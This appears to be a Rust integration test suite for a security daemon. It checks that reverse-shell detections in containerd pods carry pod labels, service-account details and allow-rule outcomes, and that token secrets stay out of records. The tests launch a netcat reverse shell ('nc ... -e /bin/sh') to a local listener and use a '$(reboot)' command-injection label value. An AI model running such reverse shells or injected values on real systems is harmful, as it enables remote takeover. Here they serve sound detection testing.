//! What containerd's CRI plugin says of pods, in records and in allow rules.

use std::fs;
use std::os::unix::fs::symlink;
use std::os::unix::net::UnixListener;
use std::path::Path;
use std::process::Stdio;
use std::sync::Arc;

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::json;

use crate::common::attacker::{Listener, Session};
use crate::common::daemon::{Daemon, Place, tetherd};
use crate::common::finding::Finding;
use crate::common::victim::Victim;
use crate::common::wait_for;
use crate::cri::{NAMESPACE, Pod};
use crate::image;
use crate::require_containerd;

/// A reverse shell in a pod.
fn shell(pod: &Pod, attacker: &Listener) -> (Session, Victim) {
    let mut command = pod.exec(&format!("nc 127.0.0.1 {} -e /bin/sh", attacker.port()));
    command.stdin(Stdio::null()).stdout(Stdio::null());
    let victim = Victim::spawn(command);
    (attacker.accept(), victim)
}

/// The token of a pod, as the kubelet lays it out.
fn token(kubelet: &Path, pod: &Pod) {
    let volumes = kubelet.join(format!("pods/{}/volumes/kubernetes.io~projected", pod.uid));
    let own = volumes.join("kube-api-access-x2x7k");
    fs::create_dir_all(own.join("..2026")).unwrap();
    let claims = json!({
        "kubernetes.io": {
            "namespace": NAMESPACE, "pod": {"name": pod.name, "uid": pod.uid},
            "serviceaccount": {"name": "front", "uid": "x"}
        }
    });
    let parts = [json!({"alg": "RS256"}).to_string(), claims.to_string(), "THE-SIGNATURE".to_owned()];
    let parts = parts.map(|part| URL_SAFE_NO_PAD.encode(part));
    fs::write(own.join("..2026/token"), parts.join(".")).unwrap();
    symlink("..2026", own.join("..data")).unwrap();
    symlink("..data/token", own.join("token")).unwrap();
}

#[test]
fn the_socket_tells_of_pods() {
    require_containerd!();
    let pod = Pod::run("sleep 600");
    let place = Place::new("");
    token(&place.path("kubelet"), &pod);
    place.configure(&format!(
        "[enrich]\ndigest_wait_ms = 1000\ncri = \"{}\"\ncontainerd_directories = [\"{}\"]\nkubelet_directories = [\"{}\"]\n",
        pod.containerd.socket(),
        pod.containerd.home.text("state"),
        place.path("kubelet").display()
    ));
    let daemon = Daemon::start_in(&place);
    let attacker = Listener::tcp();
    let running = shell(&pod, &attacker);
    let found = daemon.wait_for("the reverse shell", |record| record.peer_port() == Some(attacker.port()));
    let brief = found.0.to_string();
    assert_eq!(
        found.property("Pod_Labels"),
        &json!({"app": "front", "quoted": "<b>\"$(reboot)\"</b>"}),
        "{brief}"
    );
    assert_eq!(found.property("Pod_Annotations"), &json!({"kubernetes.io/config.source": "api"}), "{brief}");
    assert_eq!(found.property("Container_Attempt"), &json!(0), "{brief}");
    let account = json!({
        "namespace": NAMESPACE, "name": "front", "source": "token in the pod's projected volume", "verified": false
    });
    assert_eq!(found.property("Service_Account"), &account, "{brief}");
    let missing = json!(["pod's labels: 1 are left out: too many, too long, or with control characters"]);
    assert_eq!(found.property("Enrichment_Status")["missing"], missing, "{brief}");
    let in_pod = &found.0["finding"]["kubernetes"]["pods"][0];
    let labels =
        json!([{"name": "app", "value": "front"}, {"name": "quoted", "value": "<b>\"$(reboot)\"</b>"}]);
    assert_eq!(in_pod["labels"], labels, "{brief}");
    let own = &in_pod["containers"][0];
    assert_eq!((&own["name"], &own["uri"]), (&json!("app"), &json!(image::NAME)), "{brief}");
    assert!(own["imageId"].as_str().is_some_and(|id| id.contains("sha256:")), "{brief}");
    assert!(own["createTime"].as_str().is_some_and(|time| time.ends_with('Z')), "{brief}");
    for secret in ["not for records", "THE-SIGNATURE", &URL_SAFE_NO_PAD.encode("THE-SIGNATURE")] {
        assert!(!brief.contains(secret), "{brief}");
    }
    let spool = place.spool().display().to_string();
    let shown = String::from_utf8(tetherd(&["show", found.id(), "--spool", &spool]).stdout).unwrap();
    assert!(shown.contains("app front") && !shown.contains('\u{1b}'), "{shown}");
    let told = String::from_utf8(tetherd(&["explain", found.id(), "--spool", &spool]).stdout).unwrap();
    let asks = format!("--as=system:serviceaccount:{NAMESPACE}:front");
    assert!(told.contains(&asks), "{told}");
    drop(running);
}

/// A runtime that accepts and says nothing holds up no finding, and the next record says what came of it.
#[test]
fn a_silent_socket_holds_up_nothing() {
    require_containerd!();
    let pod = Pod::run("sleep 600");
    let place = Place::new("");
    let socket = place.path("cri.sock");
    let silent = UnixListener::bind(&socket).unwrap();
    place.configure(&format!(
        "[enrich]\ndigest_wait_ms = 1000\ncri = \"{}\"\ncontainerd_directories = [\"{}\"]\n",
        socket.display(),
        pod.containerd.home.text("state"),
    ));
    let daemon = Daemon::start_in(&place);
    let attacker = Listener::tcp();
    let (session, victim) = shell(&pod, &attacker);
    let own = |record: &Finding| record.peer_port() == Some(attacker.port());
    let missing = |record: &Finding| record.property("Enrichment_Status")["missing"].to_string();
    daemon.wait_for("the reverse shell", own);
    let first = daemon.records().into_iter().find(own).unwrap();
    assert_eq!(first.text("Container_Name"), "app");
    assert!(
        missing(&first).contains("what the runtime's socket says: the runtime has not answered yet"),
        "{}",
        missing(&first)
    );
    // It was asked, and has been given up by the time that the shell ends.
    let asked = wait_for("the question", || silent.accept().ok());
    let mut session = session;
    wait_for("the end of asking", || {
        session.run("/bin/true");
        daemon
            .records()
            .into_iter()
            .rfind(own)
            .filter(|record| missing(record).contains("the runtime was too slow"))
    });
    session.exit();
    drop((asked, victim));
}

/// A daemon with this rule, which asks containerd.
fn with_rule(pod: &Pod, wait_ms: u32, rule: &str) -> (Arc<Place>, Daemon) {
    let place = Place::new("");
    place.configure(&format!(
        "[enrich]\ndigest_wait_ms = {wait_ms}\ncri = \"{}\"\ncontainerd_directories = [\"{}\"]\n",
        pod.containerd.socket(),
        pod.containerd.home.text("state"),
    ));
    let rule = format!("[[allow]]\nname = \"front\"\nreason = \"its owner asked for it\"\n{rule}\n");
    fs::write(place.path("rules.d/front.toml"), rule).unwrap();
    let daemon = Daemon::start_in(&place);
    (place, daemon)
}

#[test]
fn rules_by_label_namespace_and_image() {
    require_containerd!();
    let pod = Pod::run("sleep 600");
    let excused = Listener::tcp();
    let rule = format!(
        "pod_label = \"app=front\"\nnamespace = \"{NAMESPACE}\"\ncontainer_image = \"{}\"\ncontainer = \"{}\"\nport = {}",
        image::NAME,
        pod.id,
        excused.port()
    );
    let (_place, daemon) = with_rule(&pod, 1000, &rule);
    let first = shell(&pod, &excused);
    // The same to a port that the rule does not name.
    let other = Listener::tcp();
    let second = shell(&pod, &other);
    daemon.wait_for("the other shell", |record| record.peer_port() == Some(other.port()));
    daemon.judged();
    let found: Vec<_> =
        daemon.records().into_iter().filter(|record| record.peer_port() == Some(excused.port())).collect();
    assert!(found.is_empty(), "{found:?}");
    assert!(daemon.count("allowed") >= 1);
    drop((first, second));
}

/// Nobody waits for the runtime: the finding is there, and is taken back with the rule named when the label is known.
#[test]
fn a_late_label_withdraws_the_finding() {
    require_containerd!();
    let pod = Pod::run("sleep 600");
    let (place, daemon) = with_rule(&pod, 0, "pod_label = \"app=front\"");
    let attacker = Listener::tcp();
    let (session, victim) = shell(&pod, &attacker);
    let own = |record: &Finding| record.peer_port() == Some(attacker.port());
    let withdrawn = |record: &Finding| record.0["finding"]["mute"] == "MUTED";
    let last = daemon.wait_for("the withdrawal", |record| own(record) && withdrawn(record));
    let excuse = json!({"rule": "front", "reason": "its owner asked for it"});
    assert_eq!((last.state(), last.property("Excused_By")), ("INACTIVE", &excuse));
    assert_eq!(last.0["finding"]["muteInitiator"], "allow rule front");
    let first = daemon.records().into_iter().find(own).unwrap();
    assert_eq!((first.state(), first.id()), ("ACTIVE", last.id()), "it was a finding before");
    assert!(first.says("the allow rule front"), "{first:?}");
    let spool = place.spool().display().to_string();
    let shown = String::from_utf8(tetherd(&["show", last.id(), "--spool", &spool]).stdout).unwrap();
    assert!(shown.contains("(withdrawn, ") && shown.contains("front"), "{shown}");
    let listed = String::from_utf8(tetherd(&["list", "--spool", &spool]).stdout).unwrap();
    assert!(listed.contains(" muted "), "{listed}");
    // The pods of other tests have this label too.
    assert!(daemon.count("withdrawn") >= 1);
    // By now it is known: the next one is excused at once.
    let again = Listener::tcp();
    let next = shell(&pod, &again);
    daemon.judged();
    assert!(!daemon.records().iter().any(|record| record.peer_port() == Some(again.port())));
    drop((session, victim, next));
}
